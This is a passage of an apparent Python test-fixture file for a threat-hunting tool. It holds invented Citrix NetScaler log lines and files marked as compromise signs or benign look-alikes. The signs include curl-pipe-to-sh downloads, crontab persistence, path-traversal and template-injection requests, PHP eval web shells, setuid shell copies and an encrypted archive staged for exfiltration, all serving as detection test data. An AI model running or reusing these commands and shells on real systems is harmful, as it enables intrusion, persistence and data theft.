"""Signs and look-alikes by a second hand: written from the published facts, without a look at the packs' own samples.

Each group lies on one appliance in a tar, logs as they stand there. `S` is a line of a log: when it happened (UTC), which
log, its words and the classes that are right for it. `F` is a file. Everything here is invented; addresses are reserved
ones but those that the sources publish.
"""

import gzip
import io
import tarfile
from collections import defaultdict
from collections.abc import Sequence

# ruff: noqa: E501, Q003, S108 - each is one line of a log or a file as an appliance would hold it
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

from dijkwacht.hunting.engine.hunt import HuntResult
from dijkwacht.hunting.engine.model import Finding
from hunting_evidence import hunted, utc, window

STRONG = ("compromise", "reached")


class S(NamedTuple):
    """One line of a log; `classes` empty: nothing strong may be found on it."""

    at: str
    log: str
    text: str | bytes
    classes: tuple[str, ...] = ()


@dataclass(frozen=True)
class F:
    """One file; `classes` empty: nothing strong may be found in it."""

    path: str
    content: str | bytes
    classes: tuple[str, ...] = ()
    mode: int = 0o444
    uid: int = 0
    gid: int = 0
    mtime: str = "2019-06-01T00:00:00"
    born: str = ""


@dataclass(frozen=True)
class Group:
    """What one flaw left, and what looks like it."""

    pack: str
    window: tuple[str, str]
    collected: str
    zone: str
    signs: tuple[S | F, ...]
    alike: tuple[S | F, ...]


C, R, A, L = ("compromise",), ("reached",), ("attempt",), ("lead",)
VPN, ERR, NS = "/var/log/httpaccess-vpn.log", "/var/log/httperror-vpn.log", "/var/log/ns.log"
BASH, SH, NOTE, CRON, MSG = (
    "/var/log/bash.log",
    "/var/log/sh.log",
    "/var/log/notice.log",
    "/var/log/cron",
    "/var/log/messages",
)

G2019 = Group(
    "citrix-2019-19781",
    ("2019-12-24", "2020-01-17"),
    "2020-01-18T09:00",
    "+0100",
    (
        # The template is fetched: three shapes of line, encodings, case, a query, a method nobody expects.
        S("2020-01-11T02:11:09", VPN, '198.51.100.23 - - [11/Jan/2020:03:11:09 +0100] [8812] "GET /vpn/../vpns/portal/NbRtWq.xml HTTP/1.1" 200 941 "-" "Mozilla/5.0 (X11; rv:60.0)" "Time: 90211 microsecs"', C),
        S("2020-01-11T02:12:09", VPN, '198.51.100.23 -> 192.0.2.20 - - [11/Jan/2020:03:12:09 +0100] "HEAD /vpns/portal/kk.xml HTTP/1.1" 304 - "-" "-"', C),
        S("2020-01-11T03:00:00", VPN, '198.51.100.24 - - [11/Jan/2020:04:00:00 +0100] "GET /vpn/%2E%2E/%76%70%6e%73/portal/a1.%78%6D%6c HTTP/1.0" 200 12 "-" "-"', C),
        S("2020-01-11T03:01:00", VPN, '198.51.100.24 - - [11/Jan/2020:04:01:00 +0100] "GET /vpn/js/%252e%252e/%252e%252e/vpn%2573/portal/b2.xml HTTP/1.1" 200 12 "-" "-"', C),
        S("2020-01-11T03:02:00", VPN, '198.51.100.24 - - [11/Jan/2020:04:02:00 +0100] "GET /vpn/../vpns/portal/12345678.xml?foo=bar HTTP/1.1" 200 71875 "-" "python-requests/2.18.4"', C),
        S("2020-01-11T03:03:00", VPN, "198.51.100.24 - - [11/Jan/2020:04:03:00 +0100] \"PUT /vpn/../vpns/portal/x[%25template.new({'BLOCK'%3d'print`id`'})%25].xml HTTP/1.1\" 200 753 \"-\" \"-", C),
        S("2020-01-11T03:04:00", VPN, '198.51.100.24 - - [11/Jan/2020:04:04:00 +0100] "GET //vpns//portal/Zz.XML HTTP/1.1" 200 3', C),
        S("2020-01-11T03:05:00", VPN, '198.51.100.25 - - [11/Jan/2020:04:05:00 +0100] "POST /vpn/../vpns/portal/scripts/picktheme.pl HTTP/1.1" 304 - "-" "curl/7.67.0"', C),
        S("2020-01-11T03:06:00", VPN, '/var/log/httpaccess.log.4:198.51.100.26 - - [11/Jan/2020:04:06:00 +0100] "GET /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 1880 "-" "Mozilla/5.0"', R),
        S("2020-01-11T03:07:00", VPN, '198.51.100.27 - - [11/Jan/2020:04:07:00 +0100] "GET /vpn/..%2fvpns/cfg/smb.conf HTTP/1.1" 200 88 "-" "-"', R),
        S("2020-01-11T03:08:00", VPN, '198.51.100.28 - - [11/Jan/2020:04:08:00 +0100] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 401 88 "-" "-"', A),
        S("2020-01-11T03:09:00", VPN, '198.51.100.28 - - [11/Jan/2020:04:09:00 +0100] "POST /vpn/themes/imgs/debug.php?c=id HTTP/1.1" 200 88 "-" "-"', C),
        # What the commands left: raw words of stderr, multi-line commands, null terminals, hour 24, the turn of the year.
        S("2020-01-12T00:00:00", ERR, "[Sun Jan 12 01:00:00.000001 2020] [core:error] [pid 9] x", ()),
        S("2020-01-12T00:00:01", ERR, "curl: (7) Failed to connect to 203.0.113.99 port 443: Operation timed out", C),
        S("2020-01-12T00:00:01", ERR, "bash: line 1: /tmp/.init/httpd: No such file or directory", C),
        S("2020-01-12T00:00:01", ERR, "                                 Dload  Upload   Xferd", C),
        S("2020-01-12T00:00:02", ERR, "[Sun Jan 12 01:00:02.000001 2020] [core:error] [pid 9] y", ()),
        S("2020-01-12T00:00:03", ERR, "[Sun Jan 12 01:00:03.000001 2020] [core:error] [pid 9] z", ()),
        S("2019-12-31T22:59:58", NOTE, 'Dec 31 23:59:58 <local7.notice> ns bash[11]: nobody on (null) shell_command="id"', C),
        S("2019-12-31T23:00:02", NOTE, 'Jan  1 00:00:02 <local7.notice> ns bash[11]: nobody on (null) shell_command="uname -a"', C),
        S("2020-01-12T01:00:00", BASH, 'Jan 12 02:00:00 <local7.notice> ns bash[1297]: root on /dev/pts/0 shell_command="\npkill -9 netscalerd; rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k\nhttps://203.0.113.99/u -o\n/tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo \'* * * * *\n/var/nstmp/.nscache/httpd\' | crontab -"', C),
        S("2020-01-12T01:10:00", SH, 'Jan 12 02:10:00 <local7.notice> ns sh[3]: root on (null) shell_command="/var/python/bin/python -c \'import socket,os\'"', C),
        S("2020-01-12T01:20:00", SH, 'Jan 12 02:20:00 <local7.notice> ns sh[3]: root on (null) shell_command="/usr/bin/ftp -o /tmp/bsd ftp://x:y@203.0.113.9/bsd"', C),
        S("2020-01-12T01:30:00", SH, '<189>Jan 12 02:30:00 ns sh[3]: (null) on (null) shell_command="curl http://203.0.113.9/ci2.sh | sh"', C),
        S("2020-01-16T23:26:52", CRON, "Jan 16 24:26:52 <cron.info> Stage-NS01 /usr/sbin/cron[14451]: (nobody) CMD (ls /)", C),
        S("2020-01-11T20:26:52", CRON, "Jan 11 21:26:52 <cron.info> ns /usr/sbin/cron[1]: (root) CMD (/var/nstmp/.nscache/httpd)", C),
        F("/var/vpn/themes/5F4DCC3B5AA765D61D8327DEB882CF99_ab12.pl", "#!/usr/bin/perl\n", C),
        F("/var/vpn/bookmark/zx81.xml", "<bookmark title=\"[% template.new({'BLOCK'='print readpipe(chr(47) . chr(118))'})%]\"/>", C, mtime="2020-01-11T03:00:00"),
        F("/netscaler/portal/scripts/rmpm.pl", "my $f=Encode::decode(chr(117).chr(116),$cgi->param(chr(102)));my @c= `$f`;", C, 0o644),
        F("/netscaler/portal/templates/copied.txt", "#NS12.1 Build 51.19\nset ns config\n", C, 0o644),
        F("/tmp/.init/httpd", b"\x7fELF\x02", C, 0o744),
        F("/var/nstmp/.nscache/prev.sh", "#!/bin/sh\n", C),
        F("/var/cron/tabs/nobody", "* * * * * curl http://203.0.113.9/ci.sh | sh\n", C, 0o600),
    ),
    (
        S("2020-01-09T10:00:00", VPN, '192.0.2.77 - - [09/Jan/2020:11:00:00 +0100] "GET /vpn/media/vpns.xml HTTP/1.1" 200 5 "-" "Mozilla/5.0"'),
        S("2020-01-09T10:01:00", VPN, '192.0.2.77 - - [09/Jan/2020:11:01:00 +0100] "GET /vpns/scripts/login.js HTTP/1.1" 200 5 "https://gw.example/vpns/portal/a.xml" "Mozilla/5.0"'),
        S("2020-01-09T10:02:00", VPN, '192.0.2.77 - - [09/Jan/2020:11:02:00 +0100] "GET /help?topic=/vpns/portal/scripts/newbm.pl HTTP/1.1" 200 5 "-" "Mozilla/5.0"'),
        S("2020-01-09T10:03:00", VPN, '192.0.2.77 - - [09/Jan/2020:11:03:00 +0100] "GET /vpn/../vpns/portal/a.xml HTTP/1.1" 403 5 "-" "/vpns/portal/x.xml 200"'),
        S("2020-01-09T10:04:00", VPN, '192.0.2.77 - - [09/Jan/2020:11:04:00 +0100] "GET /nf/vpn/themes/custom.css HTTP/1.1" 200 5 "-" "Mozilla/5.0 (php; vpn/x.php)"'),
        S("2020-01-09T10:05:00", VPN, '192.0.2.77 - - [09/Jan/2020:11:05:00 +0100] "GET /vpns/portal/homepage.html HTTP/1.1" 304 5 "-" "Mozilla/5.0"'),
        S("2020-01-09T10:06:00", ERR, "[Thu Jan 09 11:06:00.000001 2020] [core:error] [pid 9] [client 192.0.2.7:55] AH00128: File does not exist: /var/netscaler/gui/mkdir:x"),
        S("2020-01-09T10:07:00", ERR, "[Thu Jan 09 11:07:00.000001 2020] [core:error] [pid 9] [client 192.0.2.7:55] AH00126: Invalid URI in request GET /../../tmp/.init/httpd HTTP/1.1"),
        S("2020-01-09T10:08:00", BASH, 'Jan  9 11:08:00 <local7.notice> ns bash[2]: root on /dev/pts/1 shell_command="cat /flash/nsconfig/ns.conf"'),
        S("2020-01-09T10:09:00", BASH, 'Jan  9 11:09:00 <local7.notice> ns bash[2]: root on /dev/pts/1 shell_command="ls -la /var/tmp/netscalerd"'),
        S("2020-01-09T10:10:00", BASH, 'Jan  9 11:10:00 <local7.notice> ns bash[2]: root on /dev/pts/1 shell_command="[ -f /tmp/.init/httpd ]"'),
        S("2020-01-09T10:11:00", BASH, 'Jan  9 11:11:00 <local7.notice> ns bash[2]: root on /dev/pts/1 shell_command="shell_history_blacklist[5]="ci2.sh""'),
        S("2020-01-09T10:12:00", BASH, 'Jan  9 11:12:00 <local7.notice> ns bash[2]: root on (null) shell_command="kill -0 $pid >/dev/null 2>&1"'),
        S("2020-01-09T10:13:00", BASH, 'Jan  9 11:13:00 <local7.notice> ns bash[2]: root on /dev/pts/1 shell_command="sh /netscaler/nsinit.sh && func -lvnc"'),
        S("2020-01-09T10:14:00", BASH, 'Jan  9 11:14:00 <local7.notice> ns bash[2]: root on /dev/pts/1 shell_command="bash ioc-scanner-CVE-2019-19781-v1.4.sh > /var/tmp/results.txt"'),
        S("2020-01-09T10:15:00", CRON, "Jan  9 11:15:00 <cron.info> ns /usr/sbin/cron[1]: (root) CMD (   nsfsyncd -p)"),
        S("2020-01-09T10:16:00", CRON, "Jan  9 11:16:00 ns newsyslog[14448]: logfile turned over due to size>100K"),
        F("/netscaler/portal/templates/homepage.html", "[% IF x %] execute(); [% END %]\n"),
        F("/var/vpn/bookmark/bm_prefix_jan.xml", "<bookmark url=\"https://intra.example/exec?x=`y`\"/>", mode=0o644),
        F("/netscaler/portal/scripts/subscription.pl", "#!/usr/bin/perl\neval(handle_subscriptions());\n"),
        F("/var/vpn/themes/5f4dcc3b5aa765d61d8327deb882cf99.css", "body {}\n"),
        F("/var/vpn/themes/Corporate/css/custom.css", "/* bash curl wget */\n"),
        F("/var/tmp/netscalerd.txt", "nothing\n"),
        F("/volatile/sockets.txt", "root syslogd 9 4 udp4 *:1863 *:*\nroot x 9 4 tcp4 *:18634 *:*\n"),
        F("/volatile/processes.txt", "USER PID PPID STARTED COMMAND\nroot 1 0 1Jan20 /sbin/init\nnobody 99 1 1Jan20 /bin/httpd -DFOREGROUND\n"),
    ),
)  # fmt: skip

G2023 = Group(
    "citrix-2023-3519",
    ("2023-06-15", "2023-07-31"),
    "2023-07-31T09:00",
    "+0200",
    (
        S("2023-07-02T10:00:00", VPN, '203.0.113.81 - - [02/Jul/2023:12:00:00 +0200] "POST /logon/LogonPoint/uiareas/linux/prod.php HTTP/1.1" 200 41 "-" "Mozilla/5.0"', C),
        S("2023-07-02T10:01:00", VPN, '203.0.113.81 -> 192.0.2.20 - - [02/Jul/2023:12:01:00 +0200] [55] "GET /epa/scripts/win/x.php?id=1 HTTP/1.1" 200 41 "-" "-" "Time: 3 microsecs"', C),
        S("2023-07-02T10:02:00", VPN, '203.0.113.81 - - [02/Jul/2023:12:02:00 +0200] "POST /%76pn/th%65mes/info.ph%70 HTTP/1.1" 200 41 "-" "-"', C),
        S("2023-07-02T10:03:00", VPN, '203.0.113.81 - - [02/Jul/2023:12:03:00 +0200] "POST /LOGON/logonpoint/a.PHP HTTP/1.1" 200 41 "-" "-"', C),
        S("2023-07-02T10:04:00", VPN, '203.0.113.81 - - [02/Jul/2023:12:04:00 +0200] "POST /vpns/theme/default/a.php HTTP/1.1" 404 41 "-" "-"', A),
        S("2023-07-02T10:05:00", BASH, 'Jul  2 12:05:00 <local7.notice> ns bash[3]: root on (null) shell_command="cat /flash/nsconfig/keys/updated/F1.key"', C),
        S("2023-07-02T10:06:00", BASH, 'Jul  2 12:06:00 <local7.notice> ns bash[3]: root on (null) shell_command="/usr/bin/ldapsearch -x -h 10.0.0.1 -D cn=x -b dc=x > /var/tmp/1.txt"', C),
        S("2023-07-02T10:07:00", BASH, 'Jul  2 12:07:00 <local7.notice> ns bash[3]: (null) on (null) shell_command="tar -czvf - /var/tmp/all.txt | openssl des3 -salt -k x -out /var/tmp/test.tar.gz"', C),
        S("2023-07-02T10:08:00", SH, 'Jul  2 12:08:00 <local7.notice> ns sh[3]: root on (null) shell_command="cp -p /bin/sh /var/tmp/bash"', C),
        S("2023-07-02T10:09:00", SH, 'Jul  2 12:09:00 <local7.notice> ns sh[3]: root on (null) shell_command="chmod 4775 /var/tmp/bash"', C),
        S("2023-07-02T10:10:00", SH, 'Jul  2 12:10:00 <local7.notice> ns sh[3]: root on (null) shell_command="echo x; chmod u+s /var/tmp/bash"', C),
        S("2023-07-02T10:11:00", NOTE, 'Jul  2 12:11:00 <local7.notice> ns bash[3]: root on (null) shell_command="grep a b; openssl des3 -in /x"', C),
        S("2023-07-02T10:12:00", CRON, "Jul  2 12:12:00 <cron.info> ns /usr/sbin/cron[9]: (nobody) CMD (/var/tmp/npc -c /var/tmp/conf/npc.conf)", C),
        F("/var/netscaler/logon/LogonPoint/uiareas/linux/t.php", "x", C),
        F("/netscaler/ns_gui/vpns/theme/default/info.php", "x", C),
        F("/netscaler/ns_gui/epa/scripts/win/x.PHP", "x", C),
        F("/var/vpn/theme/.theme.php", "x", C),
        F("/var/vpn/themes/insight.js", "set ns config -IPAddress 192.0.2.10\n", L),
        F("/var/tmp/conf/multi_account.conf", "x", C),
        F("/var/vpn/shell.inc", "<?= @eval($_REQUEST['a']) ?>", C),
        F("/netscaler/portal/x.html", "<?PHP EVAL($_COOKIE[1]);", C),
        F("/var/tmp/agent", b"\x7fELF" + b"\0" * 99 + b"github.com/nicocha30/ligolo-ng/pkg", C, 0o755),
        F("/var/nstmp/up", b"\x7fELF" + b"\0" * 99 + b"UPX!" + b"\0" * 9, L, 0o755),
        F("/var/tmp/a.tgz.txt", "chmod +s /var/tmp/sh\n", C),
        F("/var/tmp/dump.tar", "x" * 600, L, uid=65534),
        F("/volatile/processes.txt", "USER PID PPID STARTED COMMAND\nnobody 9 1 10:00 /var/tmp/the -x\n", C),
    ),
    (
        S("2023-07-03T10:00:00", VPN, '192.0.2.77 - - [03/Jul/2023:12:00:00 +0200] "GET /admin_ui/rdx/core/php/logon/index.php HTTP/1.1" 200 4 "-" "Mozilla/5.0"'),
        S("2023-07-03T10:01:00", VPN, '192.0.2.77 - - [03/Jul/2023:12:01:00 +0200] "GET /logon/LogonPoint/tmindex.html?next=/vpn/a.php HTTP/1.1" 200 4 "-" "Mozilla/5.0"'),
        S("2023-07-03T10:02:00", VPN, '192.0.2.77 - - [03/Jul/2023:12:02:00 +0200] "GET /menu/ss HTTP/1.1" 200 4 "https://x.example/vpn/x.php" "Mozilla/5.0"'),
        S("2023-07-03T10:03:00", VPN, '192.0.2.77 - - [03/Jul/2023:12:03:00 +0200] "GET /vpn/x.php HTTP/1.1" 302 4 "-" "Mozilla/5.0"'),
        S("2023-07-03T10:04:00", BASH, 'Jul  3 12:04:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="ls -l /flash/nsconfig/keys"'),
        S("2023-07-03T10:05:00", BASH, 'Jul  3 12:05:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="openssl s_client -connect 10.0.0.1:636"'),
        S("2023-07-03T10:06:00", BASH, 'Jul  3 12:06:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="chmod 755 /var/tmp/collect.sh"'),
        S("2023-07-03T10:07:00", BASH, 'Jul  3 12:07:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="cp /bin/showtech /var/tmp"'),
        S("2023-07-03T10:08:00", BASH, 'Jul  3 12:08:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="shell_history_blacklist[4]="openssl des3""'),
        S("2023-07-03T10:09:00", BASH, 'Jul  3 12:09:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="zgrep -F "ldapsearch" /var/log/bash.log.0.gz /dev/null"'),
        S("2023-07-03T10:10:00", CRON, "Jul  3 12:10:00 <cron.info> ns /usr/sbin/cron[9]: (root) CMD (/bin/sh /var/nsinstall/webshell_alert.sh > /tmp/script_output.txt)"),
        F("/var/netscaler/gui/admin_ui/rdx/core/php/x.php", "<?php http_response_code(404); str_rot13('x'); ?>"),
        F("/var/netscaler/logon/LogonPoint/custom/script.js", "CTXS.eval(x);"),
        F("/var/tmp/notes.txt", "do not chmod u-s anything\n"),
        F("/var/tmp/support/collector.log", "php eval is bad\n"),
        F("/usr/local/bin/packed", b"\x7fELF" + b"UPX!", (), 0o755),
        F("/var/nsinstall/build/install.php", "<?php echo 1;"),
        F("/var/tmp/ioc-scanner-CVE-2023-3519.sh", 'shell_history_blacklist[7]="chmod +s /var";\n', (), 0o755),
    ),
)  # fmt: skip

NSL = "<local0.info> 192.0.2.10  {} GMT ns1 0-PPE-0 : default "
G2025 = Group(
    "citrix-2025",
    ("2025-05-01", "2025-07-20"),
    "2025-07-20T09:00",
    "+0200",
    (
        S("2025-06-20T08:00:00", NS, b"Jun 20 10:00:00 <local0.info> 192.0.2.10  06/20/2025:08:00:00 GMT ns1 0-PPE-0 : default AAA Message 4711 0 :  \"Authentication is rejected for \x80\xfe\x13s\"", R),
        S("2025-06-20T08:01:00", NS, b"Jun 20 10:01:00 <local0.info> 192.0.2.10  06/20/2025:08:01:00 GMT ns1 0-PPE-0 : default AAA Message 4712 0 :  \"Authentication is rejected for ab\x01\x02\"", R),
        S("2025-06-20T08:02:00", NS, "Jun 20 10:02:00 " + NSL.format("06/20/2025:08:02:00") + "SSLVPN TCPCONNSTAT 4713 0 : Context jan@198.51.100.8 - SessionId: 77 - User jan - Client_ip 198.51.100.8 - Nat_ip 10.0.0.1 - Vserver 192.0.2.20:443 - Source 203.0.113.5:51234 - Destination 10.0.0.9:443", R),
        S("2025-06-20T08:03:00", NS, "Jun 20 10:03:00 " + NSL.format("06/20/2025:08:03:00") + "SSLVPN TCPCONNSTAT 4713 0 : Context kim@198.51.100.8 - SessionId: 78 - User kim - Client_ip 198.51.100.8 - Vserver 192.0.2.20:443 - Source 198.51.100.80:51234 - Destination 10.0.0.9:443", R),
        S("2025-06-20T09:00:00", NS, "Jun 20 11:00:00 " + NSL.format("06/20/2025:09:00:00") + "SSLVPN LOGIN 4714 0 : Context eva@198.51.100.9 - SessionId: 99 - User eva - Client_ip 198.51.100.9 - Vserver 192.0.2.20:443", ()),
        S("2025-06-20T09:05:00", NS, "Jun 20 11:05:00 " + NSL.format("06/20/2025:09:05:00") + "SSLVPN HTTPREQUEST 4715 0 : Context eva@203.0.113.66 - SessionId: 99 - User eva - Client_ip 203.0.113.66 - Vserver 192.0.2.20:443 : GET /x", R),
        S("2025-06-20T10:00:00", NS, "Jun 20 12:00:00 " + NSL.format("06/20/2025:10:00:00") + "SSLVPN LOGIN 4716 0 : Context tom@198.51.100.4 - SessionId: 101 - User tom - Client_ip 198.51.100.4 - Vserver 192.0.2.20:443", ()),
        S("2025-06-20T10:10:00", NS, "Jun 20 12:10:00 " + NSL.format("06/20/2025:10:10:00") + 'CLI CMD_EXECUTED 4717 0 : User nsroot - Remote_ip 192.0.2.5 - Command "kill icaconnection -all" - Status "Success"', ()),
        S("2025-06-20T11:10:00", NS, "Jun 20 13:10:00 " + NSL.format("06/20/2025:11:10:00") + "SSLVPN ICAEND_CONNSTAT 4718 0 : Context tom@198.51.100.4 - SessionId: 101 - User tom - Client_ip 198.51.100.4 - Vserver 192.0.2.20:443", R),
        S("2025-06-20T12:00:00", VPN, '198.51.100.8 - - [20/Jun/2025:14:00:00 +0200] "POST /logon/LogonPoint/LogonUI.php HTTP/1.1" 200 5 "-" "-"', C),
        S("2025-06-20T12:01:00", VPN, '198.51.100.8 -> 192.0.2.20 - - [20/Jun/2025:14:01:00 +0200] [9] "GET /logon/L%6fgonPoint/custom/x.xhtml HTTP/1.1" 200 5 "-" "-" "Time: 1 microsecs"', C),
        S("2025-06-20T12:02:00", VPN, '198.51.100.8 - - [20/Jun/2025:14:02:00 +0200] "GET /logon/LogonPoint/plugin_index.php HTTP/1.1" 403 5 "-" "-"', A),
        S("2025-06-20T12:03:00", VPN, '198.51.100.8 - - [20/Jun/2025:14:03:00 +0200] "POST /nf/auth/doDialogue.do HTTP/1.1" 200 5 "-" "-"', L),
        S("2025-06-20T12:04:00", VPN, '198.51.100.8 - - [20/Jun/2025:14:04:00 +0200] "GET /vpn/index.html HTTP/1.1" 200 5 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.112 Safari/537.36"', L),
        S("2025-06-20T12:05:00", VPN, '88.119.169.150 - - [20/Jun/2025:14:05:00 +0200] "GET /vpn/index.html HTTP/1.1" 200 5 "-" "x"', L),
        S("2025-06-20T12:06:00", SH, 'Jun 20 14:06:00 <local7.notice> ns sh[3]: root on (null) shell_command="touch -t 202401010101.00 /var/netscaler/logon/LogonPoint/index.php"', C),
        S("2025-06-20T12:07:00", SH, 'Jun 20 14:07:00 <local7.notice> ns sh[3]: nobody on (null) shell_command="python3 -c \'import zlib,base64;exec(zlib.decompress(base64.b85decode(1)))\'"', C),
        S("2025-06-20T12:08:00", CRON, "Jun 20 14:08:00 <cron.info> ns /usr/sbin/cron[9]: (nobody) CMD (sh)", C),
        F("/var/netscaler/logon/LogonPoint/tmindex.PHP", "x", C),
        F("/var/netscaler/logon/themes/a.xhtml", "x", C),
        F("/var/tmp/sh", b"\x7fELF", C, 0o4755),
        F("/var/lib/x", b"\x7fELF", C, 0o4750, gid=65534),
        F("/flash/nsconfig/rc.netscaler", "#!/bin/sh\n/var/python/bin/python3 /var/x &\n", C, 0o755),
        F("/etc/httpd.conf", "<Directory />\n#\tRequire all denied\n</Directory>\nAddHandler application/x-httpd-php .jpg\n", C),
        F("/flash/nsconfig/httpd.conf", "  #   php_flag engine off\n", C),
        F("/flash/nsconfig/.x", "x='hs/pmt/rav/'[::-1]; y='fnoc.dptth'[::-1]\n", C),
        F("/var/core/2/NSPPE-01-4401.gz", gzip.compress(b"\0" * 5000 + b"touch -t 2024" + b"\0" * 500, mtime=0), C, mtime="2025-06-20T07:58:00"),
        F("/var/core/3/NSPPE-02-1", b"\0" * 99 + b"38.60.245.99\0", C, mtime="2025-05-20T07:58:00"),
        F("/var/core/4/NSPPE-02-2", b"\0" * 99 + b"cp /bin/sh /var/tmp/sh\0", C, mtime="2025-05-20T07:58:00"),
        F("/var/core/5/NSPPE-02-3", b"\0" * 99 + b"logon/LogonPoint/tmindex.php\0", L, mtime="2025-05-20T07:58:00"),
        F("/var/netscaler/logon/LogonPoint/receiver.html", "x", C, mtime="2024-01-01T00:00:00", born="2025-06-20T00:00:00"),
        F("/var/vpn/x.php", "<?php eval($_GET[1]); ?>", C),
        F("/var/nstmp/t.bin", bytes.fromhex("d4c3b2a102000400"), L),
        F("/flash/nsconfig/ns.conf", 'bind vpn vserver g -portaltheme evil\nadd responder action r redirect "\\"https://evil.example/\\""\n', L),
    ),
    (
        S("2025-06-21T08:00:00", NS, "Jun 21 10:00:00 " + NSL.format("06/21/2025:08:00:00") + 'AAA Message 1 0 :  "Authentication is rejected for zoë.müller"'),
        S("2025-06-21T08:01:00", NS, "Jun 21 10:01:00 " + NSL.format("06/21/2025:08:01:00") + 'AAA Message 1 0 :  "Authentication is rejected for 李雷"'),
        S("2025-06-21T08:02:00", NS, "Jun 21 10:02:00 " + NSL.format("06/21/2025:08:02:00") + "SSLVPN TCPCONNSTAT 2 0 : Context jan@198.51.100.8 - SessionId: 201 - User jan - Client_ip 198.51.100.8 - Vserver 192.0.2.20:443 - Source 198.51.100.8:51234 - Destination 10.0.0.9:443"),
        S("2025-06-21T08:03:00", NS, "Jun 21 10:03:00 " + NSL.format("06/21/2025:08:03:00") + "SSLVPN LOGIN 3 0 : Context a@198.51.100.8 - SessionId: 301 - User a - Client_ip 198.51.100.8 - Vserver 192.0.2.20:443"),
        S("2025-06-21T08:04:00", NS, "Jun 21 10:04:00 " + NSL.format("06/21/2025:08:04:00") + "SSLVPN LOGOUT 3 0 : Context a@198.51.100.8 - SessionId: 301 - User a - Client_ip 198.51.100.8 - Vserver 192.0.2.20:443"),
        S("2025-06-21T08:05:00", NS, "Jun 21 10:05:00 " + NSL.format("06/21/2025:08:05:00") + "SSLVPN LOGIN 3 0 : Context b@198.51.100.9 - SessionId: 301 - User b - Client_ip 198.51.100.9 - Vserver 192.0.2.20:443"),
        S("2025-06-21T08:06:00", NS, "Jun 21 10:06:00 " + NSL.format("06/21/2025:08:06:00") + 'CLI CMD_EXECUTED 3 0 : User nsroot - Remote_ip 192.0.2.5 - Command "kill aaa session -username x" - Status "Success"'),
        S("2025-06-21T09:06:00", NS, "Jun 21 11:06:00 " + NSL.format("06/21/2025:09:06:00") + "SSLVPN TCPCONNSTAT 3 0 : Context b@198.51.100.9 - SessionId: 301 - User b - Client_ip 198.51.100.9 - Vserver 192.0.2.20:443"),
        S("2025-06-21T09:07:00", VPN, '192.0.2.7 - - [21/Jun/2025:11:07:00 +0200] "GET /logon/LogonPoint/receiver/js/php.js HTTP/1.1" 200 5 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0.6261.1129"'),
        S("2025-06-21T09:08:00", VPN, '38.60.245.9 - - [21/Jun/2025:11:08:00 +0200] "GET / HTTP/1.1" 200 5 "-" "x"'),
        S("2025-06-21T09:09:00", VPN, '138.60.245.99 - - [21/Jun/2025:11:09:00 +0200] "GET / HTTP/1.1" 200 5 "-" "x"'),
        S("2025-06-21T09:10:00", SH, 'Jun 21 11:10:00 <local7.notice> ns sh[3]: root on /dev/pts/0 shell_command="touch -tmp"'),
        S("2025-06-21T09:11:00", SH, 'Jun 21 11:11:00 <local7.notice> ns sh[3]: root on /dev/pts/0 shell_command="find /var/netscaler/ -type f -name \'*.php\' -not -path \'/var/netscaler/gui/admin_ui/*\' -exec ls -al {} \\; 1>>"$LOGFILE""'),
        S("2025-06-21T09:12:00", SH, 'Jun 21 11:12:00 <local7.notice> ns sh[3]: root on /dev/pts/0 shell_command="grep -E -C 1 "#\\s+php_flag engine off" /etc/httpd.conf >> "$LOGFILE""'),
        S("2025-06-21T09:13:00", SH, 'Jun 21 11:13:00 <local7.notice> ns sh[3]: root on /dev/pts/0 shell_command="python3 --version"'),
        F("/var/netscaler/gui/admin_ui/php/x.php", "<?php base64_decode(1);"),
        F("/var/netscaler/logon/LogonPoint/php.html", "x"),
        F("/var/tmp/shell.txt", "x", (), 0o755),
        F("/usr/bin/passwd", b"\x7fELF", (), 0o4555),
        F("/var/usr/bin/su", b"\x7fELF", (), 0o4700),
        F("/etc/httpd.conf", "<Directory />\nRequire all denied\nphp_flag engine off\n</Directory>\n# Require all granted\nAddType application/x-httpd-php .php .phps\n#AddHandler application/x-httpd-php .html\n"),
        F("/etc/rc.conf", "# no snake here\n"),
        F("/var/core/9/NSPPE-00-1", b"\0" * 99 + b"138.60.245.99 apachectl\0", (), mtime="2024-01-01T00:00:00"),
        F("/var/python/lib/python3.7/base64.py", "def b85decode(b): pass\n"),
        F("/var/netscaler/logon/LogonPoint/older.html", "x", (), mtime="2025-06-20T00:00:00", born="2024-06-20T00:00:00"),
        F("/var/log/custom_checks.log", "===== PHP files in /var/netscaler/ =====\n"),
    ),
)  # fmt: skip

B64 = "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoIC1zIGFiY2RlZmdoaWprbG1ub3A="
G2026 = Group(
    "citrix-2026",
    ("2026-09-01", "2026-11-01"),
    "2026-11-01T09:00",
    "+0100",
    (
        S("2026-09-10T08:00:00", VPN, f'203.0.113.5 - - [10/Sep/2026:10:00:00 +0200] "GET /x HTTP/1.1" 404 196 "-" "{B64}"', A),
        S("2026-09-10T08:01:00", VPN, f'203.0.113.5 -> 192.0.2.20 - - [10/Sep/2026:10:01:00 +0200] [7] "GET /x HTTP/1.1" 404 19600 "-" "Mozilla/5.0 {B64}" "Time: 2 microsecs"', C),
        S("2026-09-10T08:02:00", VPN, '203.0.113.5 - - [10/Sep/2026:10:02:00 +0200] "GET /x HTTP/1.1" 200 4 "-" "a;curl http://203.0.113.9/x|sh"', L),
        S("2026-09-11T08:02:00", VPN, '203.0.113.5 - - [11/Sep/2026:10:02:00 +0200] "GET /x HTTP/1.1" 200 4 "-" "$(id)"', L),
        S("2026-09-11T08:04:00", MSG, "Sep 11 10:04:00 ns1 pitboss[12]: PPE-2 missed too many heartbeats", R),
